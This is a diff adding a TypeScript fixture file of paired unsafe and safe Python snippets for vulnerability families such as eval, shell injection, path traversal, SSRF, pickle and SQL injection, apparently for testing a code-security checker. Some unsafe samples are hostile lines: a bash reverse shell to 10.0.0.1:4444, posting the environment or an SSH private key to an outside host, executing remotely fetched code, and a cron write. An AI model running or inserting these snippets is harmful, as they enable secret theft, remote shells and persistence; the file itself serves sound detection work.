@@ -1,0 +1,232 @@
+import type { Twin } from "./twins.ts";
+
+/** Unsafe and safe ways to do the same, Python. */
+export const pythonTwins: Twin[] = [
+  {
+    family: "code-eval",
+    unsafe: "def calc(text):\n    return eval(text)\n",
+    safe: "import ast\ndef calc(text):\n    return ast.literal_eval(text)\n",
+  },
+  {
+    family: "code-eval",
+    unsafe: "from flask import request\n@app.route('/x')\ndef run():\n    exec(request.form['code'])\n",
+    safe: "from flask import request\n@app.route('/x')\ndef run():\n    return str(len(request.form['code']))\n",
+  },
+  {
+    family: "code-eval",
+    unsafe: "def f(answer):\n    exec(compile(answer, '<s>', 'exec'))\n",
+    safe: "def f():\n    exec('x = 1')\n",
+  },
+  {
+    family: "code-eval",
+    unsafe:
+      "from flask import render_template_string, request\ndef v():\n    return render_template_string(request.args.get('t'))\n",
+    safe: "from flask import render_template, request\ndef v():\n    return render_template('a.html', t=request.args.get('t'))\n",
+  },
+  {
+    family: "code-eval",
+    unsafe:
+      "def agent(client):\n    reply = client.messages.create(model='m')\n    return eval(reply.content)\n",
+    safe: "import json\ndef agent(client):\n    reply = client.messages.create(model='m')\n    return json.loads(reply.content)\n",
+  },
+  {
+    family: "command",
+    unsafe: "import os\ndef ping(host):\n    os.system('ping ' + host)\n",
+    safe: "import os\ndef ping():\n    os.system('ping localhost')\n",
+  },
+  {
+    family: "command",
+    unsafe: "import subprocess\ndef run(cmd):\n    subprocess.run(cmd, shell=True)\n",
+    safe: "import subprocess\ndef run(name):\n    subprocess.run(['ls', name])\n",
+  },
+  {
+    family: "command",
+    unsafe: "import subprocess\ndef run(name):\n    subprocess.check_output(f'ls {name}', shell=True)\n",
+    safe: "import shlex, subprocess\ndef run(name):\n    subprocess.check_output('ls ' + shlex.quote(name), shell=True)\n",
+  },
+  {
+    family: "command",
+    unsafe: "from subprocess import Popen as P\ndef f(x):\n    P(['bash', '-c', x])\n",
+    safe: "from subprocess import Popen as P\ndef f(x):\n    P(['git', 'log', x])\n",
+  },
+  {
+    family: "command",
+    unsafe: "import os\ndef f(x):\n    os.popen('cat %s' % x).read()\n",
+    safe: "import os\ndef f(x):\n    if x not in ('a', 'b'):\n        raise ValueError(x)\n    os.popen('cat %s' % x).read()\n",
+  },
+  {
+    family: "command",
+    unsafe: "import os\ndef f(n):\n    os.system('kill {}'.format(n))\n",
+    safe: "import os\ndef f(n):\n    os.system('kill {}'.format(int(n)))\n",
+  },
+  {
+    family: "command",
+    unsafe: "import asyncio\nasync def f(c):\n    await asyncio.create_subprocess_shell(c)\n",
+    safe: "import asyncio\nasync def f(c):\n    await asyncio.create_subprocess_exec('ls', c)\n",
+  },
+  {
+    family: "dyn-import",
+    unsafe: "import importlib\ndef load(name):\n    return importlib.import_module(name)\n",
+    safe: "import importlib\ndef load():\n    return importlib.import_module('json')\n",
+  },
+  {
+    family: "dyn-import",
+    unsafe: "def load(name):\n    return __import__(name)\n",
+    safe: "def load():\n    return __import__('json')\n",
+  },
+  {
+    family: "path-fs",
+    unsafe: "def read(name):\n    with open('data/' + name) as f:\n        return f.read()\n",
+    safe: "def read():\n    with open('data/a.txt') as f:\n        return f.read()\n",
+  },
+  {
+    family: "path-fs",
+    unsafe:
+      "import os\nfrom flask import request, send_file\ndef get():\n    return send_file(os.path.join('/srv', request.args['f']))\n",
+    safe: "from flask import request, send_from_directory\ndef get():\n    return send_from_directory('/srv', request.args['f'])\n",
+  },
+  {
+    family: "path-fs",
+    unsafe: "import shutil\ndef rm(path):\n    shutil.rmtree(path)\n",
+    safe: "import shutil\ndef rm():\n    shutil.rmtree('/tmp/build')\n",
+  },
+  {
+    family: "path-fs",
+    unsafe:
+      "import os\ndef read(name):\n    p = os.path.realpath(os.path.join('/srv', name))\n    return open(p).read()\n",
+    safe: "import os\ndef read(name):\n    p = os.path.realpath(os.path.join('/srv', name))\n    if not p.startswith('/srv/'):\n        raise ValueError\n    return open(p).read()\n",
+  },
+  {
+    family: "path-fs",
+    unsafe: "import tarfile\ndef f(t):\n    tarfile.open('a.tar').extractall('/srv')\n",
+    safe: "import tarfile\ndef f(t):\n    tarfile.open('a.tar').extractall('/srv', filter='data')\n",
+  },
+  {
+    family: "path-fs",
+    unsafe: "import tempfile\nname = tempfile.mktemp()\n",
+    safe: "import tempfile\nname = tempfile.mkstemp()\n",
+  },
+  {
+    family: "path-fs",
+    unsafe: "import os\nos.chmod('a.sh', 0o777)\n",
+    safe: "import os\nos.chmod('a.sh', 0o750)\n",
+  },
+  {
+    family: "ssrf-net",
+    unsafe: "import requests\ndef get(url):\n    return requests.get(url)\n",
+    safe: "import requests\ndef get(q):\n    return requests.get('https://a.net/s', params={'q': q})\n",
+  },
+  {
+    family: "ssrf-net",
+    unsafe:
+      "import urllib.request\nfrom flask import request\ndef f():\n    return urllib.request.urlopen(request.args.get('u')).read()\n",
+    safe: "import urllib.request\ndef f():\n    return urllib.request.urlopen('https://a.net').read()\n",
+  },
+  {
+    family: "ssrf-net",
+    unsafe:
+      "import httpx\nasync def f(host):\n    async with httpx.AsyncClient() as c:\n        return await c.get(f'https://{host}/x')\n",
+    safe: "import httpx\nfrom urllib.parse import urlparse\nALLOWED = {'a.net'}\nasync def f(url):\n    if urlparse(url).hostname not in ALLOWED:\n        raise ValueError\n    async with httpx.AsyncClient() as c:\n        return await c.get(url)\n",
+  },
+  {
+    family: "secret-leak",
+    unsafe: "import os, requests\nrequests.post('https://x.net', json=dict(os.environ))\n",
+    safe: "import os, requests\nrequests.post('https://x.net', headers={'Authorization': os.environ['API_TOKEN']})\n",
+  },
+  {
+    family: "secret-leak",
+    unsafe:
+      "import requests\nkey = open('/root/.ssh/id_rsa').read()\nrequests.post('https://x.net', data=key)\n",
+    safe: "import requests\nrequests.post('https://x.net', data='ping')\n",
+  },
+  {
+    family: "secret-leak",
+    unsafe: "import logging\ndef login(user, password):\n    logging.info('login %s %s', user, password)\n",
+    safe: "import logging\ndef login(user, password):\n    logging.info('login %s', user)\n",
+  },
+  {
+    family: "deserialise",
+    unsafe: "import pickle\ndef f(b):\n    return pickle.loads(b)\n",
+    safe: "import json\ndef f(b):\n    return json.loads(b)\n",
+  },
+  {
+    family: "deserialise",
+    unsafe: "import yaml\ndef f(t):\n    return yaml.load(t)\n",
+    safe: "import yaml\ndef f(t):\n    return yaml.safe_load(t)\n",
+  },
+  {
+    family: "deserialise",
+    unsafe: "import yaml\ndef f(t):\n    return yaml.load(t, Loader=yaml.Loader)\n",
+    safe: "import yaml\ndef f(t):\n    return yaml.load(t, Loader=yaml.SafeLoader)\n",
+  },
+  {
+    family: "deserialise",
+    unsafe: "import marshal\ndef f(b):\n    return marshal.loads(b)\n",
+    safe: "import marshal\ndef f(x):\n    return marshal.dumps(x)\n",
+  },
+  {
+    family: "deserialise",
+    unsafe: "import torch\ndef f(p):\n    return torch.load('m.pt')\n",
+    safe: "import torch\ndef f(p):\n    return torch.load('m.pt', weights_only=True)\n",
+  },
+  {
+    family: "redos",
+    unsafe: "import re\nok = re.compile(r'^(\\w+)+$')\n",
+    safe: "import re\nok = re.compile(r'^\\w+$')\n",
+  },
+  {
+    family: "redos",
+    unsafe: "import re\ndef f(pattern, text):\n    return re.search(pattern, text)\n",
+    safe: "import re\ndef f(word, text):\n    return re.search(re.escape(word), text)\n",
+  },
+  {
+    family: "backdoor",
+    unsafe: "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n",
+    safe: "import base64\nprint(base64.b64decode('cHJpbnQoMSk='))\n",
+  },
+  {
+    family: "backdoor",
+    unsafe: "import requests\nexec(requests.get('https://x.net/a').text)\n",
+    safe: "import requests\nprint(requests.get('https://x.net/a').text)\n",
+  },
+  {
+    family: "backdoor",
+    unsafe: "import os\nos.system('bash -i >& /dev/tcp/10.0.0.1/4444 0>&1')\n",
+    safe: "import os\nos.system('make test')\n",
+  },
+  {
+    family: "backdoor",
+    unsafe: "with open('/etc/cron.d/x', 'w') as f:\n    f.write('x')\n",
+    safe: "with open('out.txt', 'w') as f:\n    f.write('x')\n",
+  },
+  {
+    family: "tls-crypto",
+    unsafe: "import requests\nrequests.get('https://a.net', verify=False)\n",
+    safe: "import requests\nrequests.get('https://a.net', verify=True)\n",
+  },
+  {
+    family: "tls-crypto",
+    unsafe: "import hashlib\nhashlib.md5(b'x')\n",
+    safe: "import hashlib\nhashlib.md5(b'x', usedforsecurity=False)\n",
+  },
+  {
+    family: "tls-crypto",
+    unsafe: "import ssl\nssl._create_unverified_context()\n",
+    safe: "import ssl\nssl.create_default_context()\n",
+  },
+  {
+    family: "secret",
+    unsafe: "import jwt\njwt.encode({'a': 1}, 'kq83hfa7', algorithm='HS256')\n",
+    safe: "import jwt, os\njwt.encode({'a': 1}, os.environ['KEY'], algorithm='HS256')\n",
+  },
+  {
+    family: "secret",
+    unsafe: "import psycopg2\npsycopg2.connect(host='db', password='v9Kq!77pL')\n",
+    safe: "import os, psycopg2\npsycopg2.connect(host='db', password=os.environ['PGPASSWORD'])\n",
+  },
+  {
+    family: "sql",
+    unsafe: "def f(cursor, name):\n    cursor.execute(f\"SELECT * FROM t WHERE n = '{name}'\")\n",
+    safe: "def f(cursor, name):\n    cursor.execute('SELECT * FROM t WHERE n = %s', (name,))\n",
+  },
+];
